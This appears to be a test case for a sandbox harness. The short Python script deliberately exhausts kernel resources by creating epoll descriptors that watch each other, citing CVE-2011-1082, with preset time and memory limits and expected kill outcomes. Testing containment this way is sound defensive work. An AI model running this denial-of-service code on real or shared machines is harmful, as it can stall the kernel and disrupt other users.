# SPDX-License-Identifier: Apache-2.0
# family: bombs
# tries: epoll descriptors that watch each other
# matters: the kernel walks the graph with a lock held (CVE-2011-1082)
# timeout: 2
# expect: DeadlineExceeded, OOMKilled
# memory: 128Mi
# cpu: 400m
# host: neighbour
import select

held = []
while True:
    for _ in range(100):
        try:
            one = select.epoll()
        except OSError:
            held = held[-10:]
            break
        for other in held[-50:]:
            try:
                one.register(other.fileno(), 1)
            except OSError:
                pass
        held.append(one)
